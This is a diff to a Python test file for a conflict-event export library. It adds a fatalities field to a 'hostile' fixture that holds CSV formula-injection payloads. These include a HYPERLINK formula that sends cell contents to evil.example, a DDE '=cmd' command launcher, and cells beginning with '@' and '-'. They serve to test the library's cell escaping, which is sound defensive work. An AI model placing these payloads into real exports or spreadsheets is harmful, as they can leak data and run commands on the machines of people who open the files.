@@ -10,7 +10,7 @@ import pytest
 
 from khaldun.export import write_acled, write_ucdp
 from khaldun.export.common import safe_cell, write_csv
-from khaldun.records import Actor, Claim, Event, Location, MergedEvent
+from khaldun.records import Actor, Claim, Event, Fatalities, Location, MergedEvent
 from khaldun.serve.formats import FLAT_COLUMNS, flat_row
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -27,7 +27,11 @@ def hostile() -> MergedEvent:
         time_precision=1,
         location=Location(FORMULA, None, "@town", "-admin", "SY", -12.5, -3.25, 1),
         actor1=Actor("=cmd|' /C calc'!A0", 2),
-        claims=[Claim("@source", "occurred", None, quote, doc_id="d")],
+        fatalities=Fatalities(3, 3),  # GED leaves out events without deaths
+        claims=[
+            Claim("@source", "occurred", None, quote, doc_id="d"),
+            Claim("@source", "fatalities", 3, quote, doc_id="d"),
+        ],
         doc_id="d",
         report_id="d:0",
     )
